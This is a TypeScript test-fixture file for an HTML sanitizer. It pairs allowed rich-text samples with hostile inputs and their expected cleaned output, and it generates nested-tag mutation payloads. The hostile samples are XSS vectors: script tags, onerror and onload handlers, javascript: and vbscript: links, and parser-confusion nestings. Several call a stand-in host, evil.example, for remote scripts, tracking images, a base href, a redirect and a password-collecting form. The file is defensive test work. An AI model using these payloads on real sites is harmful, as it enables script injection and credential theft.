import { RICH_TEXT } from '../rich-text/rich-text';

/** A text from outside, and the cleaned one, the same for both cleaners. */
export interface RichTextSample {
  name: string;
  dirty: string;
  clean: string;
}

const sample = (name: string, dirty: string, clean: string): RichTextSample => ({ name, dirty, clean });

/** The smallest picture: one pixel. */
export const DOT = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

/** A data address of so many bytes; only its length is that of a picture. */
export function imageOfBytes(bytes: number): string {
  const whole = Math.floor(bytes / 3);
  const rest = ['', 'AA==', 'AAA='][bytes % 3] ?? '';
  return `data:image/png;base64,${'AAAA'.repeat(whole)}${rest}`;
}

const KEPT = [
  '<h2>Zasady</h2><p>Pierwszy <strong>ważny</strong>, <em>drugi</em> i <s>trzeci</s><br />wiersz</p>',
  '<ol start="3"><li><p>Punkt</p><ul><li><p>Podpunkt</p></li></ul></li></ol><hr />',
  '<table><tbody><tr><th colspan="2">Kwota</th></tr><tr><td>1 500 zł</td><td rowspan="2">brutto</td></tr></tbody></table>',
  '<blockquote><p>Cytat z <a href="https://urzad.example/uchwala?nr=1">uchwały</a></p></blockquote>',
  '<p><a href="mailto:urzad@example.com">poczta</a>, <a href="tel:+48000000011">telefon</a></p>',
  `<p>1 &lt; 2 &amp; 3</p><img src="${DOT}" alt="Wykres kwot" />`,
];

/** Texts that cleaning does not change. */
export const KEPT_SAMPLES = KEPT.map((html, at) => sample(`kept ${at + 1}`, html, html));

/** Attacks and tags that are not allowed, each with the harmless part that stays. */
export const HOSTILE_SAMPLES = [
  sample('script', 'a<script>alert(1)</script>b', 'ab'),
  sample('script in capitals, unclosed', 'a<SCRIPT SRC=//evil.example/x.js>', 'a'),
  sample('event attribute', '<p onclick="alert(1)" onmouseover=alert(2)>a</p>', '<p>a</p>'),
  sample('event of a broken image', '<img src=x onerror=alert(1)>', ''),
  sample('slash for space', '<img/src="x"/onerror=alert(1)>', ''),
  sample('remote image', '<p>a<img src="https://evil.example/seen.gif" alt="b"></p>', '<p>a</p>'),
  sample('image from this site', '<img src="/api/user/logout">', ''),
  sample('image set', `<img src="${DOT}" srcset="https://evil.example/2x.png 2x">`, `<img src="${DOT}" />`),
  sample('drawing as image', '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', ''),
  sample('page as image', '<img src="data:text/html;base64,PHNjcmlwdD4=">', ''),
  sample('image too large', `<img src="${imageOfBytes(RICH_TEXT.imageBytes + 1)}">`, ''),
  sample('javascript: link', '<a href="javascript:alert(1)">a</a>', '<a>a</a>'),
  sample('javascript: with a tab', '<a href="jav&#x09;ascript:alert(1)">a</a>', '<a>a</a>'),
  sample('javascript: after a control', '<a href="&#1;javascript:alert(1)">a</a>', '<a>a</a>'),
  sample('data: link', '<a href="data:text/html,<script>alert(1)</script>">a</a>', '<a>a</a>'),
  sample('vbscript: link', '<a href="vbscript:msgbox(1)">a</a>', '<a>a</a>'),
  sample('link without a scheme', '<a href="//evil.example">a</a>', '<a>a</a>'),
  sample('link with a name inside', '<a href="https://urzad.example@evil.example">a</a>', '<a>a</a>'),
  sample('style', '<p style="position:fixed;inset:0" class="modal" id="root">a</p>', '<p>a</p>'),
  sample('style sheet', '<style>@import "https://evil.example/x.css"</style><p>a</p>', '<p>a</p>'),
  sample('address of the page', '<base href="https://evil.example/"><p>a</p>', '<p>a</p>'),
  sample(
    'moved page',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>a</p>',
    '<p>a</p>',
  ),
  sample('frame', '<iframe srcdoc="<script>alert(1)</script>">a</iframe><p>b</p>', '<p>b</p>'),
  sample('object', '<object data="x.swf"><p>a</p></object><p>b</p>', '<p>b</p>'),
  sample('form', '<form action="https://evil.example"><p>a</p><input name="pass"></form>', '<p>a</p>'),
  sample('names that hide others', '<p id="attributes" name="nodeName">a</p>', '<p>a</p>'),
  sample('data attributes', '<p data-field="x" aria-label="y" contenteditable>a</p>', '<p>a</p>'),
  sample('million columns', '<table><tbody><tr><td colspan="1000000">a</td></tr></tbody></table>', CELL()),
  sample('unknown tags', '<urzad-x><blink>a</blink></urzad-x>', 'a'),
  sample('comment', 'a<!-- <p onclick=x> -->b', 'ab'),
  sample('conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]--><p>a</p>', '<p>a</p>'),
  sample('drawing', '<svg><script>alert(1)</script><text>a</text></svg><p>b</p>', '<p>b</p>'),
  sample('drawing with an event', '<svg/onload=alert(1)></svg><p>b</p>', '<p>b</p>'),
  sample('template', '<template><p onclick=x>a</p></template><p>b</p>', '<p>b</p>'),
  sample('noscript that ends early', 'a<noscript><p title="</noscript><img src=x onerror=alert(1)>">', 'a'),
  sample('text area', '<textarea><script>alert(1)</script></textarea><p>b</p>', '<p>b</p>'),
  sample('other names', '<b>a</b><i>b</i><del>c</del><h1>d</h1><h6>e</h6>', ALIASED()),
];

function CELL() {
  return '<table><tbody><tr><td>a</td></tr></tbody></table>';
}

function ALIASED() {
  return '<strong>a</strong><em>b</em><s>c</s><h2>d</h2><h4>e</h4>';
}

const AROUND = [
  ...[
    'p',
    'div',
    'a',
    'b',
    'table',
    'td',
    'select',
    'option',
    'form',
    'button',
    'ul',
    'noscript',
    'template',
  ],
  ...['style', 'title', 'textarea', 'xmp', 'noembed', 'noframes', 'iframe', 'svg', 'math', 'mtext', 'mglyph'],
  ...['annotation-xml', 'foreignObject', 'desc', 'malignmark', 'image', 'plaintext'],
];

const LOADS = [
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)" onclick=alert(2)>x</a>',
  '<style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<img alt="</style></title></noscript></textarea><script>alert(1)</script>">',
];

/** Each pair of nested wrappers around each payload: parsers differ about such nestings, which attacks exploit. */
export function hostileNestings(): string[] {
  return AROUND.flatMap((outer) =>
    AROUND.flatMap((inner) =>
      LOADS.flatMap((load) => [
        `<${outer}><${inner}>${load}</${inner}></${outer}>`,
        `<${outer}><${inner}></${outer}>${load}`,
      ]),
    ),
  );
}
